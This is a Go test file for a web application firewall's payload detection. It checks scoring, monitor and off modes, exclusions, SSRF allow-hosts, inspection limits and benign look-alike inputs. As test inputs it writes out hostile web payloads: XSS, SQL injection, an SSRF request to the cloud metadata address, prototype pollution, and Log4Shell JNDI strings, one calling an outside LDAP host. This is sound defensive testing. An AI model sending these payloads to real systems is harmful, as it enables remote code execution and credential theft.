package payload_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/rampartgw/rampart/detections"
	"github.com/rampartgw/rampart/detections/payload"
)

// fixed is a test analyzer that reports one finding on fields whose decoded
// value contains its trigger.
type fixed struct {
	name, trigger string
	f             payload.Finding
}

func (a fixed) Name() string { return a.name }
func (a fixed) Analyze(in *payload.Input) (payload.Finding, bool) {
	if strings.Contains(string(in.Decoded()), a.trigger) {
		return a.f, true
	}
	return payload.Finding{}, false
}

func query(raw string) *detections.Request {
	return &detections.Request{Method: "GET", Header: http.Header{}, Path: "/p", RawPath: "/p", RawQuery: raw}
}

func inspect(t *testing.T, d *payload.Detection, r *detections.Request) detections.Verdict {
	t.Helper()
	v, err := d.Inspect(t.Context(), r)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestScoring(t *testing.T) {
	t.Parallel()
	weakA := fixed{"a", "aaa", payload.Finding{Rule: "a_weak", Score: payload.ScoreWarning}}
	weakB := fixed{"b", "bbb", payload.Finding{Rule: "b_weak", Score: payload.ScoreNotice}}
	d, err := payload.NewWith(payload.DefaultConfig(), []payload.Analyzer{weakA, weakB})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, query string
		block       bool
		rule, loc   string
		score       int
	}{
		{"one weak signal passes", "x=aaa", false, "", "", 0},
		{"two kinds of evidence add up", "x=aaa&y=bbb", true, "a_weak", "query:x", 5},
		{"the same rule counts once", "x=aaa&y=aaa&z=aaa", false, "", "", 0},
		{"in one field too", "x=aaabbb", true, "a_weak", "query:x", 5},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := inspect(t, d, query(tc.query))
			if (v.Action == detections.ActionBlock) != tc.block {
				t.Fatalf("verdict %v (score %d)", v.Action, v.Score)
			}
			if tc.block && (v.Rule != tc.rule || v.Location != tc.loc || v.Score != tc.score) {
				t.Errorf("rule %s at %s score %d, want %s at %s score %d", v.Rule, v.Location, v.Score, tc.rule, tc.loc, tc.score)
			}
		})
	}
}

func TestModesAndExclusions(t *testing.T) {
	t.Parallel()
	attack := "q=%3Cscript%3Ealert(1)%3C/script%3E"
	for _, tc := range []struct {
		name string
		cfg  func(*payload.Config)
		want detections.Action
	}{
		{"enforced by default", func(*payload.Config) {}, detections.ActionBlock},
		{"monitor mode", func(c *payload.Config) {
			c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: detections.ModeMonitor}}
		}, detections.ActionMonitor},
		{"off", func(c *payload.Config) {
			c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: detections.ModeOff}}
		}, detections.ActionAllow},
		{"rule excluded on a field", func(c *payload.Config) {
			c.Exclusions = []payload.Exclusion{{Fields: []string{"query:q"}, Rules: []string{"xss"}}}
		}, detections.ActionAllow},
		{"exclusion on another path", func(c *payload.Config) {
			c.Exclusions = []payload.Exclusion{{Path: "/cms", Rules: []string{"xss"}}}
		}, detections.ActionBlock},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := payload.DefaultConfig()
			tc.cfg(&cfg)
			d, err := payload.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if v := inspect(t, d, query(attack)); v.Action != tc.want {
				t.Errorf("action %v (rule %s), want %v", v.Action, v.Rule, tc.want)
			}
		})
	}
	cfg := payload.DefaultConfig()
	cfg.Analyzers = map[string]payload.AnalyzerConfig{"nope": {Mode: detections.ModeOff}}
	if _, err := payload.New(cfg); err == nil {
		t.Error("an unknown analyzer was accepted")
	}
}

// TestLocationNamesTheParameter: the verdict says where, never what.
func TestLocationNamesTheParameter(t *testing.T) {
	t.Parallel()
	d := newDefault(t)
	secret := "x'%20or%20'1'='1"
	v := inspect(t, d, query("user="+secret))
	if v.Action != detections.ActionBlock || v.Location != "query:user" {
		t.Fatalf("%v at %q", v.Action, v.Location)
	}
	for _, s := range []string{v.Rule, v.Location, v.Reason} {
		if strings.Contains(s, "or") && s != payload.ReasonMalicious {
			t.Errorf("%q reveals the value", s)
		}
	}
}

func TestSSRFAllowHosts(t *testing.T) {
	t.Parallel()
	r := query("hook=" + "http%3A%2F%2F10.20.0.7%2Fcallback")
	def := newDefault(t)
	// A plain private address is a weak signal on its own.
	if v := inspect(t, def, r); v.Action == detections.ActionBlock {
		t.Fatalf("blocked by %s", v.Rule)
	}
	r = query("hook=http%3A%2F%2F169.254.169.254%2F&x=1")
	if v := inspect(t, def, r); v.Rule != payload.RuleSSRFMetadata {
		t.Fatalf("rule %q", v.Rule)
	}
	cfg := payload.DefaultConfig()
	cfg.SSRFAllowHosts = []string{"169.254.169.254"}
	d, err := payload.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if v := inspect(t, d, r); v.Action == detections.ActionBlock {
		t.Errorf("allowed host blocked by %s", v.Rule)
	}
}

// TestCleanRequestsAllocateNothing is the zero-allocation promise of the
// Input and Buffer design, for a browser GET without a body.
func TestCleanRequestsAllocateNothing(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are meaningless under the race detector")
	}
	ctx := t.Context()
	for name, d := range map[string]*payload.Detection{"uncached": newUncached(t), "cached": newDefault(t)} {
		r := cleanGET()
		_, _ = d.Inspect(ctx, r)
		if n := testing.AllocsPerRun(200, func() { _, _ = d.Inspect(ctx, r) }); n != 0 {
			t.Errorf("%s: %v allocations per clean GET, want 0", name, n)
		}
	}
}

// TestBenignLookalikes runs the brief's look-alikes through the whole
// detection, in a query, a form and a JSON body.
func TestBenignLookalikes(t *testing.T) {
	t.Parallel()
	d := newDefault(t)
	for _, v := range []string{
		"O'Brien", "select your plan", "1 < 2 and 3 > 2", "<$20", "prices from <$20 to >$100",
		"# Heading\n\n- [x] done\n- **bold** and `code`\n\n> quoted", "rm -rf is a command",
		"https://www.example.com/a/b?c=d&e=f", "4035487b-f17c-47da-b417-d4b94043d7fe",
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
		"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
		"Tom & Jerry; the sequel", "C:\\Users\\alice\\Documents\\report.pdf", "user@example.com",
		"50% off everything!", "(555) 123-4567", "SELECT * FROM the menu: soup, salad",
		"Dear team,\nplease find attached.\nRegards: Bob", "{{ user.name }}", "${PRICE}",
	} {
		reqs := map[string]*detections.Request{
			"query": query("v=" + urlQueryEscape(v)),
			"form": {Method: "POST", Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
				Path: "/f", RawPath: "/f", Body: []byte("v=" + urlQueryEscape(v))},
			"json": {Method: "POST", Header: http.Header{"Content-Type": {"application/json"}},
				Path: "/j", RawPath: "/j", Body: []byte(`{"v":` + jsonString(v) + `}`)},
		}
		for kind, r := range reqs {
			if got := inspect(t, d, r); got.Action == detections.ActionBlock {
				t.Errorf("%s %q: blocked by %s (score %d)", kind, v, got.Rule, got.Score)
			}
		}
	}
}

// TestLimitsAreFindings: an inspection limit is a protocol_limit finding
// named by the verdict's location, never a silent end of inspection.
func TestLimitsAreFindings(t *testing.T) {
	t.Parallel()
	junk := strings.Repeat("a=1&", 5001)
	multipart := func(parts int) *detections.Request {
		var b strings.Builder
		for i := 0; i < parts; i++ {
			b.WriteString("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n")
		}
		b.WriteString("--b--\r\n")
		return &detections.Request{Method: "POST", Path: "/u", RawPath: "/u", Body: []byte(b.String()),
			Header: http.Header{"Content-Type": {"multipart/form-data; boundary=b"}}}
	}
	jsonBody := func(body string) *detections.Request {
		return &detections.Request{Method: "POST", Path: "/j", RawPath: "/j", Body: []byte(body),
			Header: http.Header{"Content-Type": {"application/json"}}}
	}
	log4shell := query(junk)
	log4shell.Header.Set("User-Agent", "${jndi:ldap://203.0.113.9/a}")
	for _, tc := range []struct {
		name      string
		cfg       func(*payload.Config)
		r         *detections.Request
		want      detections.Action
		rule, loc string
	}{
		{"too many fields", nil, query(junk), detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_fields"},
		{"headers are inspected before the junk", func(c *payload.Config) {
			c.Analyzers = map[string]payload.AnalyzerConfig{"protocol_limit": {Mode: detections.ModeOff}}
		}, log4shell, detections.ActionBlock, payload.RuleLog4Shell, "header:User-Agent"},
		{"a limit in monitor mode", func(c *payload.Config) {
			c.Analyzers = map[string]payload.AnalyzerConfig{"protocol_limit": {Mode: detections.ModeMonitor}}
		}, query(junk), detections.ActionMonitor, payload.RuleProtocolLimit, "limit:max_fields"},
		{"excluded on a route", func(c *payload.Config) {
			c.Exclusions = []payload.Exclusion{{Path: "/p", Rules: []string{"protocol-limit"}}}
		}, query(junk), detections.ActionAllow, "", ""},
		{"fields below the limit", nil, query(strings.Repeat("a=1&", 100)), detections.ActionAllow, "", ""},
		{"deep json", nil, jsonBody(strings.Repeat(`{"a":`, 70) + "1" + strings.Repeat("}", 70)),
			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_depth"},
		{"json at the depth limit", nil, jsonBody(strings.Repeat(`{"a":`, 60) + "1" + strings.Repeat("}", 60)),
			detections.ActionAllow, "", ""},
		{"too many parts", func(c *payload.Config) { c.MaxParts = 10 }, multipart(11),
			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_parts"},
		{"parts at the limit", func(c *payload.Config) { c.MaxParts = 10 }, multipart(10), detections.ActionAllow, "", ""},
		{"a long value", func(c *payload.Config) { c.MaxValueBytes = 1000 }, query("q=" + strings.Repeat("x", 1001)),
			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_value_bytes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := payload.DefaultConfig()
			if tc.cfg != nil {
				tc.cfg(&cfg)
			}
			d, err := payload.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			v := inspect(t, d, tc.r)
			if v.Action != tc.want || v.Rule != tc.rule || v.Location != tc.loc {
				t.Errorf("%v %s at %q, want %v %s at %q", v.Action, v.Rule, v.Location, tc.want, tc.rule, tc.loc)
			}
		})
	}
}

// TestLongValuesAreInspectedWhole: a value longer than the normaliser's
// input bound is inspected in windows, so a payload at its end is found.
func TestLongValuesAreInspectedWhole(t *testing.T) {
	t.Parallel()
	d := newDefault(t)
	pad := strings.Repeat("lorem ipsum ", 40000) // 480 KB
	for _, tail := range []string{"<script>alert(1)</script>", "${jndi:ldap://x/a}"} {
		r := &detections.Request{Method: "POST", Path: "/t", RawPath: "/t", Body: []byte(pad + tail),
			Header: http.Header{"Content-Type": {"text/plain"}}}
		if v := inspect(t, d, r); v.Action != detections.ActionBlock {
			t.Errorf("%q after %d bytes: %v", tail, len(pad), v.Action)
		}
	}
}

// TestOldSpellings: analyzer names and exclusion rules of earlier versions
// (kebab case, renamed ids) still configure the same thing.
func TestOldSpellings(t *testing.T) {
	t.Parallel()
	attack := query("__proto__%5Badmin%5D=1")
	for _, tc := range []struct {
		name string
		cfg  func(*payload.Config)
	}{
		{"analyzer", func(c *payload.Config) {
			c.Analyzers = map[string]payload.AnalyzerConfig{"proto-pollution": {Mode: detections.ModeOff}}
		}},
		{"exclusion", func(c *payload.Config) {
			c.Exclusions = []payload.Exclusion{{Rules: []string{"proto-pollution"}}}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := payload.DefaultConfig()
			tc.cfg(&cfg)
			d, err := payload.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if v := inspect(t, d, attack); v.Action != detections.ActionAllow {
				t.Errorf("%v by %s", v.Action, v.Rule)
			}
		})
	}
	backup := &detections.Request{Method: "GET", Header: http.Header{}, Path: "/db.sql", RawPath: "/db.sql"}
	cfg := payload.DefaultConfig()
	cfg.Exclusions = []payload.Exclusion{{Rules: []string{"protocol-restricted-file"}}}
	d, err := payload.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if v := inspect(t, d, backup); v.Action != detections.ActionAllow {
		t.Errorf("renamed rule not excluded: %v by %s", v.Action, v.Rule)
	}
	cfg.Analyzers = map[string]payload.AnalyzerConfig{"xss": {}, "XSS": {}}
	if _, err := payload.New(cfg); err == nil {
		t.Error("an analyzer configured twice was accepted")
	}
}
